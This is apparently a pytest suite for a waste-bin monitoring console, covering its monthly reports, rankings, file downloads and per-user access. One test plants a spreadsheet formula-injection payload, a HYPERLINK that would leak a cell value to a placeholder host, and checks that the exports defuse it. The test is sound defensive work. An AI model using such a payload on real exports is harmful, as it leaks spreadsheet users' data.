"""The grid officials' and admins' reports on the real stack (InfluxDB, the registry): the
rankings page, the monthly report of an area and of a site as a page, and its downloads read
back (the PDF's text with pypdf, the CSV as Excel reads it, the .xlsx with openpyxl), each
within the user's reach only.

The readings, by hand, all in one hour three days ago, in the month that holds it:
- site A (an agency of Xiaoba Community, renamed 测试单位甲: a name no seed site has): 3,000 checked deposits of which
  150 wrongly sorted, accuracy 95.0 %;
- site B (another agency of Xiaoba, renamed 测试单位乙): 44 deposits, all well sorted, accuracy
  100 % but far below the 20 a day a month needs: not ranked;
- site C (an agency outside Xiaoba): 5,000 deposits, none wrong.
The month's window is at least 3 days long, so ranking needs at least 60 checked deposits."""

from __future__ import annotations

import calendar
import csv
import dataclasses
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote
from zoneinfo import ZoneInfo

import httpx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from api.console.auth import SESSION_COOKIE
from api.console.report_pdf import FONT
from api.main import create_app
from core.influx import InfluxClient, quote_ident
from core.lineprotocol import tag_set
from core.settings import Settings
from core.sql import make_engine
from devices.contract import Topics
from devices.models import Area, Bin, Site
from devices.registry import BinTags
from ingest.decode import decode
from security.users import UserRole, create_user
from tests.test_console import PASSWORD, _login

# The console adds no registry SQL of its own beyond reading the area tree; the reports' queries
# are the compliance API's, run on both backends in tests/test_compliance_api.py.
pytestmark = pytest.mark.registry_backends("sqlite", reason="the API's queries, tested on both")

AREA = "xiaoba"
AREA_NAME = "肖坝社区"
NAME_A, NAME_B = "测试单位甲", "测试单位乙"
GRID, OTHER_GRID, ADMIN, MANAGER = "grid.xiaoba", "grid.other", "city.admin", "li.manager"


@dataclass(frozen=True)
class AsUser:
    """The world's one client, speaking as one logged-in user (their session cookie)."""

    client: TestClient
    session: str

    def get(self, path: str, params: dict[str, str] | None = None) -> httpx.Response:
        self._speak()
        return self.client.get(path, params=params)

    def post(self, path: str, data: dict[str, str]) -> httpx.Response:
        self._speak()
        return self.client.post(path, data=data)

    def _speak(self) -> None:
        self.client.cookies.clear()
        self.client.cookies.set(SESSION_COOKIE, self.session, path="/console")


@dataclass(frozen=True)
class World:
    settings: Settings
    site_a: str
    site_b: str
    site_c: str
    other_area: str
    month: str  # YYYY-MM, the month of the readings in the city's zone
    app: TestClient  # one app for every user: its start-up is the slow part

    def client(self, user: str) -> AsUser:
        self.app.cookies.clear()
        assert _login(self.app, username=user).status_code == 303
        return AsUser(self.app, self.app.cookies[SESSION_COOKIE])


def _write(settings: Settings, tags: dict[str, BinTags], bin_id: str, readings: list[dict]) -> None:
    influx = InfluxClient(settings)
    influx.ensure_database(settings.raw_retention)
    lines = []
    for reading in readings:
        decoded = decode(
            f"{settings.topic_prefix}/bins/{bin_id}/telemetry",
            json.dumps(reading).encode(),
            reading["ts"] + 250,
            topics=Topics(settings.topic_prefix),
            tags_of={b: tag_set(dataclasses.asdict(t)) for b, t in tags.items()}.get,
            max_payload=65536,
        )
        assert not decoded.rejections, decoded.rejections
        lines += decoded.lines
    influx.write(lines)
    influx.close()


@pytest.fixture
def world(settings: Settings, pilot_bins: dict[str, BinTags]) -> Iterator[World]:
    engine = make_engine(settings.database_url)
    now = datetime.now(UTC)
    with Session(engine) as session:
        agencies = list(
            session.scalars(
                select(Site.id)
                .where(Site.community_id == AREA, Site.site_type == "agency")
                .order_by(Site.id)
            )
        )
        site_a, site_b = agencies[:2]
        site_c = session.scalars(
            select(Site.id)
            .where(Site.community_id != AREA, Site.site_type == "agency")
            .order_by(Site.id)
        ).first()
        other_area = session.scalars(
            select(Area.id).where(Area.kind == "community", Area.id != AREA).order_by(Area.id)
        ).first()
        assert site_c and other_area
        session.execute(update(Site).where(Site.id == site_a).values(name=NAME_A))
        session.execute(update(Site).where(Site.id == site_b).values(name=NAME_B))
        session.execute(update(Area).where(Area.id == AREA).values(name=AREA_NAME))
        bins = {
            site: session.scalars(
                select(Bin.id).where(Bin.site_id == site).order_by(Bin.id)
            ).first()
            for site in (site_a, site_b, site_c)
        }
        session.commit()
        for username, role, area, locale in (
            (GRID, UserRole.grid, AREA, "zh_CN"),
            (OTHER_GRID, UserRole.grid, other_area, "zh_CN"),
            (ADMIN, UserRole.admin, None, "en"),
            (MANAGER, UserRole.manager, None, "zh_CN"),
        ):
            create_user(session, username=username, display_name="", password=PASSWORD,
                        role=role, now=now, area_id=area, locale=locale,
                        site_ids=[site_a] if role is UserRole.manager else [])  # fmt: skip
    engine.dispose()
    at = (now - timedelta(days=3)).replace(minute=10, second=0, microsecond=0)
    ms = int(at.timestamp() * 1000)
    _write(settings, pilot_bins, str(bins[site_a]), [
        {"ts": ms + i * 60_000, "fill_pct": 40, "deposits": 1000, "contaminated": 50}
        for i in range(3)
    ])  # fmt: skip
    _write(settings, pilot_bins, str(bins[site_b]),
           [{"ts": ms, "fill_pct": 10, "deposits": 44, "contaminated": 0}])  # fmt: skip
    _write(settings, pilot_bins, str(bins[site_c]),
           [{"ts": ms, "fill_pct": 10, "deposits": 5000, "contaminated": 0}])  # fmt: skip
    month = at.astimezone(ZoneInfo(settings.timezone)).strftime("%Y-%m")
    with TestClient(create_app(settings), follow_redirects=False) as app:
        yield World(settings, site_a, site_b, site_c, other_area, month, app)
    influx = InfluxClient(settings)
    influx.query(f"DROP DATABASE {quote_ident(settings.influx.db)}", database=False)
    influx.close()


def test_the_pages_rank_with_evidence_show_scores_and_draw_charts(world: World) -> None:
    grid = world.client(GRID)
    page = grid.get(f"/console/reports/areas/{AREA}", params={"month": world.month})
    assert page.status_code == 200, page.text
    text = page.text
    year, month = world.month.split("-")
    assert f"{AREA_NAME} {year}年{int(month)}月 月度报告" in text  # Chinese: the user's locale
    assert NAME_A in text and NAME_B in text
    assert "（中国时间）" in text and "Asia/Shanghai" not in text  # the zone by its name
    assert "95.0%" in text  # site A's accuracy
    # B is listed, unranked, with its count and the bar it missed.
    assert "未排名：" in text and "已检测投放 44 次，至少需要" in text
    assert text.count("<svg") == 2 and "<rect" in text  # the two daily charts, server-drawn
    assert f"/console/reports/areas/{AREA}/pdf?month={world.month}" in text
    assert 'href="/console/rankings"' in text  # the nav of a grid official

    page = grid.get("/console/rankings", params={"site_type": "agency", "month": world.month})
    assert page.status_code == 200, page.text
    ranked, _, apart = page.text.partition("未参与排名：投放数据不足")
    assert NAME_A in ranked and NAME_B not in ranked
    assert NAME_B in apart and "已检测投放 44 次" in apart
    # How A's score is made: no requests, so accuracy weighs 0.5 of 0.5 + 0.3 + 0.2 = 50 %.
    assert "95.0 × 50% = 47.50" in ranked and "100.0 × 30% = 30.00" in ranked

    admin = world.client(ADMIN)  # English
    city = admin.get("/console/rankings", params={"site_type": "agency", "month": world.month})
    assert city.status_code == 200
    assert "Not ranked: not enough evidence" in city.text
    page = admin.get(f"/console/reports/sites/{world.site_a}", params={"month": world.month})
    assert page.status_code == 200, page.text
    # A (95 %) and C (100 %) are the city's only ranked agencies; C comes first.
    assert "Rank 2 of 2 ranked sites of this type in the city." in page.text

    manager = world.client(MANAGER)
    assert manager.get(f"/console/reports/sites/{world.site_a}").status_code == 403
    assert manager.get("/console/rankings").status_code == 403
    assert grid.get("/console/reports").headers["location"] == f"/console/reports/areas/{AREA}"
    assert grid.get(f"/console/reports/areas/{AREA}").status_code == 200  # this month so far
    for bad in ("2026-13", "26-01", "x"):
        page = grid.get(f"/console/reports/areas/{AREA}", params={"month": bad})
        assert page.status_code == 422 and "没有这个月份" in page.text
    future = grid.get(f"/console/reports/areas/{AREA}", params={"month": "2999-01"})
    assert future.status_code == 422 and "尚未开始" in future.text

    # A grid official switches to English on a report and is brought back to it.
    page = grid.get(f"/console/reports/areas/{AREA}", params={"month": world.month})
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    switched = grid.post(
        "/console/locale",
        data={"csrf": csrf.group(1), "locale": "en", "next": f"/console/reports/areas/{AREA}"},
    )
    assert switched.status_code == 303
    english = grid.get(f"/console/reports/areas/{AREA}", params={"month": world.month})
    named = f"{calendar.month_name[int(month)]} {year}"
    assert f"{AREA_NAME} monthly report {named}" in english.text
    assert "Not ranked:" in english.text and "Sorting accuracy by day" in english.text


def test_downloads_read_back_and_agree(world: World) -> None:
    grid = world.client(GRID)
    base = f"/console/reports/areas/{AREA}"
    csv_answer = grid.get(f"{base}/csv", params={"month": world.month})
    assert csv_answer.status_code == 200
    assert csv_answer.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    disposition = csv_answer.headers["content-disposition"]
    assert f'filename="binwatch-{AREA}-{world.month}.csv"' in disposition
    year, month = world.month.split("-")
    assert quote(f"{AREA_NAME} {year}年{int(month)}月 月度报告.csv") in disposition
    rows = list(csv.reader(io.StringIO(csv_answer.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    column = {name: index for index, name in enumerate(header)}
    assert all(row[column["站点类型"]] for row in body)  # site_type in every row
    by_name = {row[column["名称"]]: row for row in body}
    a, b = by_name[NAME_A], by_name[NAME_B]
    assert (a[column["排名"]], a[column["分类准确率 (%)"]], a[column["已检测投放次数"]]) == (
        "1", "95.0", "3000"
    )  # fmt: skip
    assert b[column["排名"]] == "" and b[column["分类准确率 (%)"]] == "100.0"
    assert b[column["未排名原因"]].startswith("已检测投放 44 次")
    assert body[0][column["行"]] == "合计" and body[0][column["投放次数"]] == "3044"

    xlsx = grid.get(f"{base}/xlsx", params={"month": world.month})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    cells = [[_cell(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert cells == [[_cell(v) for v in row] for row in rows]  # numbers as numbers: 0.0 == 0

    pdf = grid.get(f"{base}/pdf", params={"month": world.month})
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    for expected in (AREA_NAME, NAME_A, NAME_B, "95.0%", "3,044", "月度报告", "每日清洁指数"):
        assert expected in text, expected

    admin = world.client(ADMIN)  # a site's table, in English: its total, then each day
    low = admin.get(f"/console/reports/sites/{world.site_b}/csv", params={"month": world.month})
    lines = list(csv.DictReader(io.StringIO(low.content.decode("utf-8-sig"))))
    assert lines[0]["Row"] == "Total" and lines[0]["Rank"] == ""
    assert {line["Site type"] for line in lines} == {"Agency unit"}
    assert [line["Row"] for line in lines[1:]] == ["Day"] * (len(lines) - 1)
    assert sum(int(line["Deposits"] or 0) for line in lines[1:]) == 44


def test_downloads_keep_a_name_that_looks_like_a_formula_a_name(world: World) -> None:
    """A site named like a formula in the fleet file is a name in the grid official's Excel,
    never run: the CSV puts a `'` before it, the .xlsx stores it as text."""
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
    engine = make_engine(world.settings.database_url)
    with Session(engine) as session:
        session.execute(update(Site).where(Site.id == world.site_a).values(name=formula))
        session.commit()
    engine.dispose()
    grid, base = world.client(GRID), f"/console/reports/areas/{AREA}"
    answer = grid.get(f"{base}/csv", params={"month": world.month})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    names = [row[rows[0].index("名称")] for row in rows[1:]]
    assert "'" + formula in names and formula not in names
    sheet = load_workbook(io.BytesIO(grid.get(f"{base}/xlsx", params={"month": world.month})
                                     .content)).active  # fmt: skip
    assert sheet is not None
    (cell,) = [c for c in sheet["E"] if c.value == formula]
    assert cell.data_type == "s"  # text, not a formula ("f")


def _cell(value: object) -> object:
    """A cell as a comparable value: a number whether written "0.0" in CSV or 0 in the sheet."""
    text = "" if value is None else str(value)
    try:
        return float(text)
    except ValueError:
        return text


def test_a_grid_official_reaches_only_their_area(world: World) -> None:
    grid, other, admin = world.client(GRID), world.client(OTHER_GRID), world.client(ADMIN)
    params = {"month": world.month}
    for suffix in ("", "/pdf", "/csv", "/xlsx"):
        for path in (
            f"/console/reports/areas/{world.other_area}{suffix}",
            f"/console/reports/areas/no-such-area{suffix}",
            f"/console/reports/sites/{world.site_c}{suffix}",
            f"/console/reports/sites/no-such-site{suffix}",
        ):
            assert grid.get(path, params=params).status_code == 404, path
        theirs = f"/console/reports/areas/{AREA}{suffix}"
        assert other.get(theirs, params=params).status_code == 404, theirs
    # Within reach, the page and a file answer (each kind is read back in the test above).
    for suffix in ("", "/csv"):
        mine = f"/console/reports/sites/{world.site_a}{suffix}"
        assert grid.get(mine, params=params).status_code == 200, mine
        city = f"/console/reports/areas/{world.other_area}{suffix}"
        assert admin.get(city, params=params).status_code == 200, city
    outside = {"site_type": "agency", "area": world.other_area, **params}
    assert grid.get("/console/rankings", params=outside).status_code == 404


def test_months_at_the_calendars_edges_are_a_422_that_says_why(world: World) -> None:
    """December 9999 (no month after it to end at), a month far ahead, before 2000 or
    unwritable: every report page, file and the ranking answer 422 with the reason, never a
    500 from date arithmetic past the calendar."""
    admin = world.client(ADMIN)
    paths = [
        *(f"/console/reports/areas/{AREA}{s}" for s in ("", "/pdf", "/csv", "/xlsx")),
        f"/console/reports/sites/{world.site_a}",
        "/console/rankings",
    ]
    for month, why in (
        ("9999-12", "This month has not begun yet."),
        ("3000-01", "This month has not begun yet."),
        ("0001-01", "There is no such month."),
        ("2026-13", "There is no such month."),
        ("99999-01", "There is no such month."),
    ):
        for path in paths:
            answer = admin.get(path, params={"month": month})
            assert answer.status_code == 422, (path, month, answer.text[:200])
            assert why in answer.text, (path, month)


def test_the_pdf_font_is_installed_by_make_and_by_the_image() -> None:
    repo = Path(__file__).parents[1]
    package = "fonts-wqy-microhei"
    assert f"{FONT}:{package}" in (repo / "Makefile").read_text(encoding="utf-8")
    assert f"apt-get install -y --no-install-recommends {package}" in (
        repo / "Dockerfile"
    ).read_text(encoding="utf-8")
    assert FONT.is_file()  # `make setup` installed it here
